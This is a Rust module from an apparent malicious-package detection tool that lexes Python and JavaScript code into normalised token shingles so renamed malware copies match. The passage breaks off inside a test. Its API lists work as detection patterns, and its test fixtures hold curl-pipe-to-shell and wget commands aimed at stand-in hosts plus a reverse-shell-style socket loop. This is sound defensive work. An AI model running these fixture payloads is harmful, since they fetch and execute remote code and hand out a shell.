//! Code fingerprints: normalised token shingles of a package's own code.
//!
//! A small hand-written lexer (Python and JavaScript) turns each code file into tokens, then
//! normalises them: identifiers become `ID`, string literals `STR`, numbers `NUM`; keywords,
//! operators and a fixed list of well-known, behaviour-bearing API names (`os`, `system`,
//! `subprocess`, `b64decode`, `child_process`, `exec` ...) are kept. A renamed copy of a
//! package (new package name, new identifiers, new C2 string) therefore yields the same tokens.
//!
//! [`FingerprintOptions`] holds measurement variants, all off by default (see
//! `bench/RESULTS.md`, 2026-11-21 session 3: none raised the precision of similar edges):
//! string literal classes or URL hosts ([`StringMode`]), dropping `setup(...)` arguments,
//! leaving out test / doc / example folders, and keeping only shingles around code-execution
//! APIs ([`PAYLOAD_APIS`]).
//!
//! Why a lexer and not tree-sitter leaves: normalisation only needs the token class, which a
//! lexer gives exactly; it accepts Python 2, minified and truncated files identically; and it is
//! about an order of magnitude faster, which matters for the 100k-package scale target.

use malgraph_core::{Ecosystem, PackageFile, ScanReport, Severity, normalise_name};
use malgraph_typosquat::popularity_rank;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};

/// Shingle size (tokens per shingle) used by [`fingerprint`].
pub const DEFAULT_SHINGLE: usize = 7;
/// Files above this size are treated as generated or vendored and skipped.
pub const MAX_FILE_BYTES: usize = 512 * 1024;

/// The code fingerprint of one package (one archive).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CodeFingerprint {
    /// sha256 over the sorted per-file digests of the normalised token streams: equal for
    /// packages whose code is identical up to renaming and file layout. Empty when no code.
    pub normalized_sha256: String,
    /// Sorted, de-duplicated 64-bit hashes of k-token shingles over all code files.
    pub shingles: Vec<u64>,
    /// Number of tokens seen in the package's own code.
    pub tokens: u64,
    /// Top-level module names the package ships itself (so its own imports never become
    /// dependency edges), normalised to lower case.
    pub modules: Vec<String>,
}

/// How string literals are normalised.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum StringMode {
    /// Every string literal is one token `STR`.
    #[default]
    Opaque,
    /// A string literal becomes the token of its class: empty, URL, path, blob (long
    /// base64 / hex), single word, text with spaces. A renamed copy with a new webhook or
    /// new C2 keeps its classes.
    Classes,
    /// As [`StringMode::Classes`], but a URL keeps its host (`https://h.test/x` -> `url:h.test`).
    ClassesAndHosts,
}

/// Options of [`fingerprint_with`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FingerprintOptions {
    /// Tokens per shingle.
    pub shingle: usize,
    /// Keep well-known API names (`system`, `b64decode` ...) instead of normalising them to `ID`.
    pub keep_api_names: bool,
    /// Normalisation of string literals.
    pub strings: StringMode,
    /// Leave out the arguments of `setup(...)` calls in `setup.py` (packaging metadata: name,
    /// version, classifiers, long description ...): they are the same across unrelated
    /// packages and say nothing about behaviour. The call itself is kept as `setup ( )`.
    pub drop_setup_arguments: bool,
    /// Leave out files under test, documentation, example and demo folders (`tests/`,
    /// `docs/`, `examples/`, `demos/` ...) when the package has other code: they do not run
    /// when the package is installed or imported, and a typosquat that ships a library's
    /// test suite would otherwise look like every other package that ships it.
    pub skip_non_runtime: bool,
    /// Keep only shingles that contain a code-execution, download or decoding API
    /// ([`PAYLOAD_APIS`]): similarity over what the package does rather than over the
    /// library code it wraps.
    pub payload_only: bool,
}

/// API names whose shingles are kept by [`FingerprintOptions::payload_only`].
pub const PAYLOAD_APIS: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "__import__",
    "system",
    "popen",
    "Popen",
    "call",
    "check_call",
    "check_output",
    "spawn",
    "startfile",
    "b64decode",
    "decompress",
    "marshal",
    "urlopen",
    "urlretrieve",
    "webhook",
    "Webhook",
    "CryptUnprotectData",
    "child_process",
    "execSync",
    "spawnSync",
    "dup2",
];

impl Default for FingerprintOptions {
    fn default() -> Self {
        FingerprintOptions {
            shingle: DEFAULT_SHINGLE,
            keep_api_names: true,
            strings: StringMode::Opaque,
            drop_setup_arguments: false,
            skip_non_runtime: false,
            payload_only: false,
        }
    }
}

/// Fingerprint a package's own code with the default options.
pub fn fingerprint(files: &[PackageFile]) -> CodeFingerprint {
    fingerprint_with(files, FingerprintOptions::default())
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Lang {
    Python,
    JavaScript,
}

fn lang_of(path: &str) -> Option<Lang> {
    let lower = path.to_ascii_lowercase();
    if lower.ends_with(".py") || lower.ends_with(".pyw") {
        Some(Lang::Python)
    } else if lower.ends_with(".js") || lower.ends_with(".mjs") || lower.ends_with(".cjs") {
        if lower.ends_with(".min.js") {
            return None;
        }
        Some(Lang::JavaScript)
    } else {
        None
    }
}

/// Paths that are not the package's own code: vendored trees, build output, metadata.
fn skipped_path(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    lower.split(['/', '!']).any(|seg| {
        matches!(
            seg,
            "node_modules" | "site-packages" | "dist-packages" | "__pycache__" | ".git" | "vendor"
        ) || seg.ends_with(".egg-info")
            || seg.ends_with(".dist-info")
    })
}

/// Folder names whose files do not run when a package is installed or imported.
const NON_RUNTIME_DIRS: &[&str] = &[
    "test",
    "tests",
    "testing",
    "doc",
    "docs",
    "example",
    "examples",
    "demo",
    "demos",
    "benchmark",
    "benchmarks",
];

/// Whether a path (without the archive's top folder) lies under a test, documentation,
/// example or demo folder.
fn non_runtime_path(rel: &str) -> bool {
    let mut segs: Vec<&str> = rel.split('/').collect();
    segs.pop();
    segs.iter()
        .any(|s| NON_RUNTIME_DIRS.contains(&s.to_ascii_lowercase().as_str()))
}

/// Path without the archive's top folder (`pkg-1.0/pkg/x.py` -> `pkg/x.py`).
fn strip_top(path: &str) -> &str {
    let p = path.rsplit("!/").next().unwrap_or(path);
    match p.split_once('/') {
        Some((_, rest)) if !rest.is_empty() => rest,
        _ => p,
    }
}

/// Only the most popular names count as vendored libraries (rank below this in the PyPI list).
pub const VENDORED_TOP: usize = 1000;
/// A top-level folder is a vendored library only when it holds at least this many code files
/// (a single `utils.py`-sized helper named like a popular package is the package's own code).
pub const VENDORED_MIN_FILES: usize = 3;

/// Package name of an archive's top folder (`equests-1.0/...` -> `equests`), normalised.
fn archive_name(path: &str) -> Option<String> {
    let p = path.rsplit("!/").next().unwrap_or(path);
    let (top, _) = p.split_once('/')?;
    let name = match top.rsplit_once('-') {
        Some((n, v)) if v.starts_with(|c: char| c.is_ascii_digit()) => n,
        _ => top,
    };
    Some(normalise_name(&Ecosystem::PyPI, name))
}

/// Top-level Python folders that are vendored copies of a popular library: the folder name is
/// among the [`VENDORED_TOP`] most popular PyPI names, differs from the archive's own package
/// name, and holds at least [`VENDORED_MIN_FILES`] code files (`equests-1.0/requests/*.py`).
/// A typosquat that ships all of `requests` would otherwise look like every other package that
/// does the same.
fn vendored_dirs(files: &[PackageFile]) -> BTreeSet<String> {
    let mut count: BTreeMap<String, usize> = BTreeMap::new();
    let mut own: Option<String> = None;
    for f in files {
        if lang_of(&f.path) != Some(Lang::Python) || skipped_path(&f.path) {
            continue;
        }
        if own.is_none() {
            own = archive_name(&f.path);
        }
        let rel = strip_top(&f.path);
        if let Some((dir, _)) = rel.split_once('/') {
            *count.entry(dir.to_string()).or_default() += 1;
        }
    }
    count
        .into_iter()
        .filter(|(dir, n)| {
            *n >= VENDORED_MIN_FILES
                && own.as_deref() != Some(normalise_name(&Ecosystem::PyPI, dir).as_str())
                && popularity_rank(&Ecosystem::PyPI, dir).is_some_and(|r| r < VENDORED_TOP)
        })
        .map(|(dir, _)| dir)
        .collect()
}

/// Fingerprint a package's own code. Vendored trees (`node_modules`, `site-packages` ...) and
/// vendored copies of popular Python libraries (see `vendored_dirs`) are left out.
pub fn fingerprint_with(files: &[PackageFile], opts: FingerprintOptions) -> CodeFingerprint {
    let k = opts.shingle.max(1);
    let vendored = vendored_dirs(files);
    // non-runtime files are left out only when the package has other code
    let skip_non_runtime = opts.skip_non_runtime
        && files.iter().any(|f| {
            lang_of(&f.path).is_some()
                && !skipped_path(&f.path)
                && !non_runtime_path(strip_top(&f.path))
        });
    let mut shingles: Vec<u64> = Vec::new();
    let mut digests: Vec<[u8; 32]> = Vec::new();
    let mut modules = BTreeSet::new();
    let mut tokens_total = 0u64;
    let mut toks: Vec<u64> = Vec::new();
    for f in files {
        let Some(lang) = lang_of(&f.path) else {
            continue;
        };
        if skipped_path(&f.path) || f.data.len() > MAX_FILE_BYTES {
            continue;
        }
        let rel = strip_top(&f.path);
        if lang == Lang::Python
            && rel
                .split_once('/')
                .is_some_and(|(dir, _)| vendored.contains(dir))
        {
            continue;
        }
        if skip_non_runtime && non_runtime_path(rel) {
            continue;
        }
        if lang == Lang::Python
            && let Some(m) = own_module(rel)
        {
            modules.insert(m);
        }
        toks.clear();
        lex(&f.data, lang, opts.keep_api_names, opts.strings, &mut toks);
        if opts.drop_setup_arguments
            && lang == Lang::Python
            && rel.rsplit('/').next() == Some("setup.py")
        {
            drop_setup_arguments(&mut toks);
        }
        if toks.is_empty() {
            continue;
        }
        tokens_total += toks.len() as u64;
        let mut h = Sha256::new();
        for t in &toks {
            h.update(t.to_le_bytes());
        }
        let d = h.finalize();
        let mut arr = [0u8; 32];
        arr.copy_from_slice(&d);
        digests.push(arr);
        if opts.payload_only {
            let payload: Vec<u64> = PAYLOAD_APIS
                .iter()
                .map(|a| hash_bytes(a.as_bytes()))
                .collect();
            for w in toks.windows(k.min(toks.len())) {
                if w.iter().any(|t| payload.contains(t)) {
                    shingles.push(shingle_hash(w));
                }
            }
        } else if toks.len() < k {
            shingles.push(shingle_hash(&toks));
        } else {
            for w in toks.windows(k) {
                shingles.push(shingle_hash(w));
            }
        }
    }
    shingles.sort_unstable();
    shingles.dedup();
    let normalized_sha256 = if digests.is_empty() {
        String::new()
    } else {
        digests.sort_unstable();
        let mut h = Sha256::new();
        for d in &digests {
            h.update(d);
        }
        hex::encode(h.finalize())
    };
    CodeFingerprint {
        normalized_sha256,
        shingles,
        tokens: tokens_total,
        modules: modules.into_iter().collect(),
    }
}

/// Code files (Python / JavaScript) a scan flagged with a finding of severity `min` or above:
/// the files that carry the package's malicious behaviour. Sorted, deduplicated.
pub fn flagged_code_files(scan: &ScanReport, min: Severity) -> BTreeSet<String> {
    scan.findings
        .iter()
        .filter(|f| f.severity >= min && lang_of(&f.file).is_some() && !skipped_path(&f.file))
        .map(|f| f.file.clone())
        .collect()
}

/// Fewest shingles a focused fingerprint needs; with fewer the flagged files are too small to
/// stand for the package and [`fingerprint_focused`] keeps the whole-package shingles.
pub const MIN_FOCUS_SHINGLES: usize = 20;

/// Fingerprint whose shingles come only from the files in `focus` (e.g. the
/// [`flagged_code_files`] of a scan), so two packages that carry the same renamed benign library
/// but different payloads are compared on their payloads. The normalised hash and the module
/// list stay those of the whole package (identical packages stay duplicates). With an empty
/// `focus`, or when the focused files give fewer than [`MIN_FOCUS_SHINGLES`] shingles, this is
/// the whole-package fingerprint.
pub fn fingerprint_focused(
    files: &[PackageFile],
    opts: FingerprintOptions,
    focus: &BTreeSet<String>,
) -> CodeFingerprint {
    let whole = fingerprint_with(files, opts);
    if focus.is_empty() {
        return whole;
    }
    let chosen: Vec<PackageFile> = files
        .iter()
        .filter(|f| focus.contains(&f.path))
        .cloned()
        .collect();
    let part = fingerprint_with(&chosen, opts);
    if part.shingles.len() < MIN_FOCUS_SHINGLES || part.shingles.len() >= whole.shingles.len() {
        return whole;
    }
    CodeFingerprint {
        shingles: part.shingles,
        tokens: part.tokens,
        ..whole
    }
}

/// The top-level module a Python file provides (`foo/bar.py` -> `foo`, `foo.py` -> `foo`),
/// ignoring `setup.py` and test folders.
fn own_module(rel: &str) -> Option<String> {
    let first = rel.split('/').next()?;
    let name = first.strip_suffix(".py").unwrap_or(first);
    if name.is_empty() || name == "setup" || name == "src" || name.contains('.') {
        return None;
    }
    Some(name.to_ascii_lowercase())
}

/// 64-bit FNV-1a, then a splitmix finaliser: stable across platforms and releases.
pub(crate) fn hash_bytes(b: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &x in b {
        h ^= x as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    mix(h)
}

/// splitmix64 finaliser.
pub(crate) fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

fn shingle_hash(w: &[u64]) -> u64 {
    let mut h: u64 = 0x9e37_79b9_7f4a_7c15;
    for &t in w {
        h = mix(h ^ t).rotate_left(17);
    }
    h
}

const PY_KEYWORDS: &[&str] = &[
    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue",
    "def", "del", "elif", "else", "except", "finally", "for", "from", "global", "if", "import",
    "in", "is", "lambda", "nonlocal", "not", "or", "pass", "raise", "return", "try", "while",
    "with", "yield", "print", "exec",
];

const JS_KEYWORDS: &[&str] = &[
    "var",
    "let",
    "const",
    "function",
    "return",
    "if",
    "else",
    "for",
    "while",
    "do",
    "switch",
    "case",
    "break",
    "continue",
    "new",
    "delete",
    "typeof",
    "instanceof",
    "in",
    "of",
    "try",
    "catch",
    "finally",
    "throw",
    "class",
    "extends",
    "super",
    "this",
    "null",
    "undefined",
    "true",
    "false",
    "async",
    "await",
    "yield",
    "import",
    "export",
    "from",
    "default",
    "void",
];

/// Well-known module and API names whose use is behaviour: kept verbatim. Words that are
/// also common variable names (`data`, `text`, `content` ...) are left out, since a renamed
/// copy renames its variables.
const API_NAMES: &[&str] = &[
    // Python builtins and dynamic execution
    "eval",
    "compile",
    "__import__",
    "open",
    "getattr",
    "setattr",
    "globals",
    "locals",
    "chr",
    "ord",
    "bytes",
    "bytearray",
    "input",
    "__builtins__",
    "builtins",
    "setup",
    "cmdclass",
    "install",
    "develop",
    "egg_info",
    "run",
    "find_packages",
    // Python modules
    "os",
    "sys",
    "subprocess",
    "socket",
    "base64",
    "zlib",
    "marshal",
    "urllib",
    "urllib2",
    "request",
    "requests",
    "json",
    "platform",
    "getpass",
    "shutil",
    "tempfile",
    "ctypes",
    "winreg",
    "_winreg",
    "sqlite3",
    "browser_cookie3",
    "discord",
    "webbrowser",
    "threading",
    "multiprocessing",
    "pickle",
    "codecs",
    "binascii",
    "hashlib",
    "uuid",
    "random",
    "time",
    "http",
    "httplib",
    "ftplib",
    "smtplib",
    "telebot",
    "pyautogui",
    "win32crypt",
    "Crypto",
    "cryptography",
    "fernet",
    "Fernet",
    "re",
    "io",
    "pathlib",
    "glob",
    // Python APIs
    "system",
    "popen",
    "Popen",
    "call",
    "check_call",
    "check_output",
    "spawn",
    "startfile",
    "b64decode",
    "b64encode",
    "decode",
    "encode",
    "decompress",
    "loads",
    "dumps",
    "urlopen",
    "urlretrieve",
    "get",
    "post",
    "put",
    "write",
    "read",
    "connect",
    "send",
    "sendall",
    "recv",
    "environ",
    "getenv",
    "path",
    "join",
    "exists",
    "remove",
    "unlink",
    "listdir",
    "walk",
    "makedirs",
    "mkdir",
    "expanduser",
    "gethostname",
    "getuser",
    "uname",
    "executable",
    "argv",
    "exit",
    "chmod",
    "copyfile",
    "rmtree",
    "Thread",
    "sleep",
    "status_code",
    "headers",
    "json",
    "Request",
    "urlencode",
    "AF_INET",
    "SOCK_STREAM",
    "dup2",
    "fileno",
    "pty",
    "CryptUnprotectData",
    "AES",
    "webhook",
    "Webhook",
    "Embed",
    "APPDATA",
    "LOCALAPPDATA",
    "USERPROFILE",
    "TEMP",
    // JavaScript / Node
    "require",
    "child_process",
    "exec",
    "execSync",
    "spawnSync",
    "fork",
    "fs",
    "https",
    "dns",
    "net",
    "readFileSync",
    "writeFileSync",
    "readdirSync",
    "existsSync",
    "homedir",
    "hostname",
    "userInfo",
    "networkInterfaces",
    "Buffer",
    "from",
    "toString",
    "atob",
    "btoa",
    "fetch",
    "Function",
    "process",
    "env",
    "__dirname",
    "__filename",
    "module",
    "exports",
    "stringify",
    "parse",
    "XMLHttpRequest",
    "axios",
    "lookup",
    "resolve",
    "createConnection",
    "Socket",
    "pipe",
    "stdout",
    "cwd",
    "platform",
    "arch",
    "tmpdir",
];

fn keep_ident(s: &str, lang: Lang, keep_api: bool) -> bool {
    let kw = match lang {
        Lang::Python => PY_KEYWORDS,
        Lang::JavaScript => JS_KEYWORDS,
    };
    kw.contains(&s) || (keep_api && API_NAMES.contains(&s))
}

const T_ID: u64 = 0x1d1d_1d1d_0000_0001;
const T_STR: u64 = 0x5757_5757_0000_0002;
const T_NUM: u64 = 0x4e4e_4e4e_0000_0003;

fn is_ident_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c == b'$' || c >= 0x80
}

fn is_ident_cont(c: u8) -> bool {
    is_ident_start(c) || c.is_ascii_digit()
}

/// Lex `src` into normalised token hashes. Never fails: unknown bytes become operator tokens,
/// unterminated strings end at the end of input.
fn lex(src: &[u8], lang: Lang, keep_api: bool, strings: StringMode, out: &mut Vec<u64>) {
    let n = src.len();
    let mut i = 0usize;
    while i < n {
        let c = src[i];
        if c.is_ascii_whitespace() || c == b'\\' && i + 1 < n && src[i + 1] == b'\n' {
            i += 1;
            continue;
        }
        // comments
        if lang == Lang::Python && c == b'#' {
            while i < n && src[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        if lang == Lang::JavaScript && c == b'/' && i + 1 < n {
            if src[i + 1] == b'/' {
                while i < n && src[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            if src[i + 1] == b'*' {
                i += 2;
                while i + 1 < n && !(src[i] == b'*' && src[i + 1] == b'/') {
                    i += 1;
                }
                i = (i + 2).min(n);
                continue;
            }
        }
        if is_ident_start(c) {
            let start = i;
            while i < n && is_ident_cont(src[i]) {
                i += 1;
            }
            // Python string prefixes: r"", b'', f"", rb"" ...
            if lang == Lang::Python
                && i < n
                && (src[i] == b'"' || src[i] == b'\'')
                && i - start <= 2
                && src[start..i]
                    .iter()
                    .all(|b| matches!(b.to_ascii_lowercase(), b'r' | b'b' | b'u' | b'f'))
            {
                let q = i;
                i = skip_string(src, i, lang);
                out.push(string_token(&src[q..i], strings));
                continue;
            }
            let word = &src[start..i];
            let tok = match std::str::from_utf8(word) {
                Ok(s) if keep_ident(s, lang, keep_api) => hash_bytes(word),
                _ => T_ID,
            };
            out.push(tok);
            continue;
        }
        if c.is_ascii_digit() || (c == b'.' && i + 1 < n && src[i + 1].is_ascii_digit()) {
            while i < n && (src[i].is_ascii_alphanumeric() || src[i] == b'.' || src[i] == b'_') {
                i += 1;
            }
            out.push(T_NUM);
            continue;
        }
        if c == b'"' || c == b'\'' || (lang == Lang::JavaScript && c == b'`') {
            let q = i;
            i = skip_string(src, i, lang);
            out.push(string_token(&src[q..i], strings));
            continue;
        }
        out.push(hash_bytes(&[c]));
        i += 1;
    }
}

/// The token of a string literal (`lit` includes its quotes) under `mode`.
fn string_token(lit: &[u8], mode: StringMode) -> u64 {
    if mode == StringMode::Opaque {
        return T_STR;
    }
    let q = lit.first().copied().unwrap_or(b'"');
    let mut body = lit;
    for _ in 0..3 {
        body = body.strip_prefix(&[q]).unwrap_or(body);
        body = body.strip_suffix(&[q]).unwrap_or(body);
    }
    if body.is_empty() {
        return hash_bytes(b"\x00str:empty");
    }
    if let Some(p) = body.windows(3).position(|w| w == b"://") {
        if mode == StringMode::ClassesAndHosts {
            let rest = &body[p + 3..];
            let end = rest
                .iter()
                .position(|&c| {
                    matches!(c, b'/' | b':' | b'?' | b'#' | b'\\' | b'@') || c.is_ascii_whitespace()
                })
                .unwrap_or(rest.len());
            let host = rest[..end].to_ascii_lowercase();
            if !host.is_empty() {
                let mut key = b"\x00url:".to_vec();
                key.extend_from_slice(&host);
                return hash_bytes(&key);
            }
        }
        return hash_bytes(b"\x00str:url");
    }
    let spaces = body.iter().any(|c| c.is_ascii_whitespace());
    if !spaces
        && body.len() >= 40
        && body
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        return hash_bytes(b"\x00str:blob");
    }
    if spaces {
        return hash_bytes(b"\x00str:text");
    }
    if body.contains(&b'/') || body.contains(&b'\\') {
        return hash_bytes(b"\x00str:path");
    }
    hash_bytes(b"\x00str:word")
}

/// Remove the arguments of every `setup(...)` call (not `def setup(`) from a token stream,
/// keeping `setup ( )`. An unclosed call loses everything after its `(`.
fn drop_setup_arguments(toks: &mut Vec<u64>) {
    let setup = hash_bytes(b"setup");
    let def = hash_bytes(b"def");
    let open = hash_bytes(b"(");
    let close = hash_bytes(b")");
    let mut out = Vec::with_capacity(toks.len());
    let mut i = 0;
    while i < toks.len() {
        out.push(toks[i]);
        if toks[i] == setup && toks.get(i + 1) == Some(&open) && (i == 0 || toks[i - 1] != def) {
            out.push(open);
            let mut depth = 1usize;
            let mut j = i + 2;
            while j < toks.len() && depth > 0 {
                if toks[j] == open {
                    depth += 1;
                } else if toks[j] == close {
                    depth -= 1;
                }
                j += 1;
            }
            out.push(close);
            i = j;
            continue;
        }
        i += 1;
    }
    *toks = out;
}

/// Skip a string literal starting at the quote `src[i]`; returns the index after it.
fn skip_string(src: &[u8], i: usize, lang: Lang) -> usize {
    let n = src.len();
    let q = src[i];
    let triple = lang == Lang::Python && i + 2 < n && src[i + 1] == q && src[i + 2] == q;
    let mut j = if triple { i + 3 } else { i + 1 };
    while j < n {
        let c = src[j];
        if c == b'\\' {
            j += 2;
            continue;
        }
        if triple {
            if c == q && j + 2 < n && src[j + 1] == q && src[j + 2] == q {
                return j + 3;
            }
        } else if c == q {
            return j + 1;
        } else if c == b'\n' && q != b'`' {
            // unterminated single-line string: stop at the line end
            return j;
        }
        j += 1;
    }
    n
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(path: &str, code: &str) -> PackageFile {
        PackageFile {
            path: path.into(),
            data: code.as_bytes().to_vec(),
        }
    }

    fn finding(path: &str, severity: Severity) -> malgraph_core::Finding {
        malgraph_core::Finding {
            rule: "T".into(),
            category: malgraph_core::Category::CommandExecution,
            severity,
            stage: None,
            evasion: None,
            file: path.into(),
            line: 1,
            snippet: String::new(),
            layer: 0,
            message: String::new(),
        }
    }

    /// A benign-looking library module of `n` distinct functions.
    fn library(n: usize) -> String {
        // each function's body spells its index in base 4 with four different shapes, so
        // the functions differ after normalisation
        (0..n)
            .map(|i| {
                let body: Vec<&str> = (0..5)
                    .map(|d| ["a.get(b)", "[b, a]", "{b: a}", "(not a)"][i >> (2 * d) & 3])
                    .collect();
                format!("def f{i}(a, b):\n    return ({})\n", body.join(" + "))
            })
            .collect()
    }

    #[test]
    fn flagged_code_files_keep_code_at_or_above_severity() {
        let mut scan = ScanReport::error("p", None, "x");
        scan.findings = vec![
            finding("p-1/setup.py", Severity::High),
            finding("p-1/p/util.py", Severity::Medium),
            finding("p-1/PKG-INFO", Severity::Critical),
            finding("p-1/setup.py", Severity::Critical),
        ];
        let high = flagged_code_files(&scan, Severity::High);
        assert_eq!(high.into_iter().collect::<Vec<_>>(), vec!["p-1/setup.py"]);
        let medium = flagged_code_files(&scan, Severity::Medium);
        assert_eq!(medium.len(), 2);
    }

    #[test]
    fn focused_fingerprint_separates_payloads_behind_one_library() {
        let lib = library(1024);
        let payload_a = "import os\nimport base64\nos.system(base64.b64decode('eA==').decode())\nopen('/tmp/a', 'w').write(os.environ['HOME'])\nfor k in os.environ: print(k, os.environ[k])\n";
        let payload_b = "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nwhile True:\n    c = s.recv(1024)\n    subprocess.Popen(c, shell=True, stdout=s.fileno())\n    s.send(b'ok')\n";
        let a = vec![
            file("aa-1/aa/core.py", &lib),
            file("aa-1/setup.py", payload_a),
        ];
        let b = vec![
            file("bb-1/bb/core.py", &lib),
            file("bb-1/setup.py", payload_b),
        ];
        let jac = |x: &CodeFingerprint, y: &CodeFingerprint| {
            let xs: BTreeSet<u64> = x.shingles.iter().copied().collect();
            let ys: BTreeSet<u64> = y.shingles.iter().copied().collect();
            xs.intersection(&ys).count() as f64 / xs.union(&ys).count() as f64
        };
        let opts = FingerprintOptions::default();
        let (wa, wb) = (fingerprint(&a), fingerprint(&b));
        assert!(
            jac(&wa, &wb) > 0.5,
            "whole packages look alike: {} of {}",
            jac(&wa, &wb),
            wa.shingles.len()
        );
        let fa = fingerprint_focused(&a, opts, &BTreeSet::from(["aa-1/setup.py".to_string()]));
        let fb = fingerprint_focused(&b, opts, &BTreeSet::from(["bb-1/setup.py".to_string()]));
        assert!(jac(&fa, &fb) < 0.1, "payloads differ");
        // identity of the whole package is kept
        assert_eq!(fa.normalized_sha256, wa.normalized_sha256);
        assert_eq!(fa.modules, wa.modules);
        assert!(fa.shingles.len() < wa.shingles.len());
        // no focus: the whole package
        assert_eq!(fingerprint_focused(&a, opts, &BTreeSet::new()), wa);
        // a focus too small to stand for the package: the whole package
        let tiny = vec![
            file("aa-1/aa/core.py", &lib),
            file("aa-1/run.py", "import os\nos.system('x')\n"),
        ];
        let ft = fingerprint_focused(&tiny, opts, &BTreeSet::from(["aa-1/run.py".to_string()]));
        assert_eq!(ft, fingerprint(&tiny));
    }

    #[test]
    fn renamed_copy_has_same_normalised_hash() {
        let a = fingerprint(&[file(
            "evil-1.0/evil/__init__.py",
            "import os\nvictim = os.getenv('HOME')\nos.system('curl http://a.test/x | sh')\n",
        )]);
        let b = fingerprint(&[file(
            "other-2.3/other/__init__.py",
            "import os\n# comment\nzz = os.getenv(\"USER\")\nos.system(\"wget http://b.test/y\")\n",
        )]);
        assert_eq!(a.normalized_sha256, b.normalized_sha256);
        assert_eq!(a.shingles, b.shingles);
        assert_eq!(a.modules, vec!["evil".to_string()]);
        let c = fingerprint(&[file(
            "x-1/x.py",
            "import os\nvictim = os.getenv('HOME')\nsubprocess.call('x')\n",
        )]);
        assert_ne!(a.normalized_sha256, c.normalized_sha256);
    }

    #[test]
    fn metadata_and_vendored_files_are_skipped() {
        let fp = fingerprint(&[
            file("p-1/PKG-INFO", "Name: p\nVersion: 1\n"),
            file("p-1/node_modules/lib/index.js", "var a = 1;"),
            file("p-1/p.egg-info/top_level.py", "x = 1"),
        ]);
        assert_eq!(fp.tokens, 0);
        assert!(fp.normalized_sha256.is_empty());
    }

    #[test]
    fn lexer_survives_broken_input() {
        let fp = fingerprint(&[
            file("a/b.py", "s = '''never closed\nprint 'py2'\n"),
            file("a/c.js", "var s = `tmpl ${x}` /* open comment"),
            file("a/d.py", "\u{0}\u{ff}\"\\"),
        ]);
        assert!(fp.tokens > 0);
    }

    fn fp_with(files: &[(&str, &str)], opts: FingerprintOptions) -> CodeFingerprint {
        let fs: Vec<PackageFile> = files.iter().map(|(p, c)| file(p, c)).collect();
        fingerprint_with(&fs, opts)
    }

    #[test]
    fn string_classes_and_hosts() {
        let classes = FingerprintOptions {
            strings: StringMode::Classes,
            ..FingerprintOptions::default()
        };
        let hosts = FingerprintOptions {
            strings: StringMode::ClassesAndHosts,
            ..FingerprintOptions::default()
        };
        let code = |s: &str| format!("import os\nx = os.getenv('HOME')\nos.system({s})\n");
        let url_a = code("'curl https://a.test/x | sh'");
        let url_a2 = code("\"wget https://A.test:8080/other\"");
        let url_b = code("'curl https://b.test/x | sh'");
        let word = code("'whoami'");
        let fp = |c: &str, o| fp_with(&[("p-1/p.py", c)], o).shingles;
        // opaque: every literal is STR
        let d = FingerprintOptions::default();
        assert_eq!(fp(&url_a, d), fp(&word, d));
        // classes: a URL is not a word, but every URL is alike
        assert_ne!(fp(&url_a, classes), fp(&word, classes));
        assert_eq!(fp(&url_a, classes), fp(&url_b, classes));
        // hosts: the same host (any case, port, path) matches, another host does not
        assert_eq!(fp(&url_a, hosts), fp(&url_a2, hosts));
        assert_ne!(fp(&url_a, hosts), fp(&url_b, hosts));
        let c = StringMode::Classes;
        assert_eq!(string_token(b"''", c), hash_bytes(b"\x00str:empty"));
        assert_eq!(string_token(b"'''x y'''", c), hash_bytes(b"\x00str:text"));
        assert_eq!(string_token(b"'C:/x/y'", c), hash_bytes(b"\x00str:path"));
        let blob = format!("'{}'", "QUJD".repeat(12));
        assert_eq!(
            string_token(blob.as_bytes(), c),
            hash_bytes(b"\x00str:blob")
        );
    }

    #[test]
    fn setup_arguments_are_dropped() {
        let o = FingerprintOptions {
            drop_setup_arguments: true,
            ..FingerprintOptions::default()
        };
        let a = "import os\nos.system('x')\nsetup(name='a', version='1', classifiers=['A', 'B'], packages=find_packages())\n";
        let b = "import os\nos.system('y')\nsetup(\n    name='b',\n    author=(\"me\"),\n)\n";
        let fa = fp_with(&[("a-1/setup.py", a)], o);
        let fb = fp_with(&[("b-1/setup.py", b)], o);
        assert_eq!(fa.shingles, fb.shingles);
        assert_eq!(fa.normalized_sha256, fb.normalized_sha256);
        // without the option the metadata differs
        let d = FingerprintOptions::default();
        assert_ne!(
            fp_with(&[("a-1/setup.py", a)], d).shingles,
            fp_with(&[("b-1/setup.py", b)], d).shingles
        );
        // only in setup.py, and never a definition `def setup(...)`
        assert_ne!(fp_with(&[("a-1/a/x.py", a)], o).shingles, fb.shingles);
        let mut t = Vec::new();
        lex(
            b"def setup(a, b): pass",
            Lang::Python,
            true,
            StringMode::Opaque,
            &mut t,
        );
        let before = t.len();
        drop_setup_arguments(&mut t);
        assert_eq!(t.len(), before);
        // an unclosed call does not panic: `setup ( )` is left
        let mut t = Vec::new();
        lex(
            b"setup(name='x'",
            Lang::Python,
            true,
            StringMode::Opaque,
            &mut t,
        );
        drop_setup_arguments(&mut t);
        assert_eq!(t.len(), 3);
    }

    #[test]
    fn test_suites_are_left_out_when_there_is_other_code() {
        let o = FingerprintOptions {
            skip_non_runtime: true,
            ..FingerprintOptions::default()
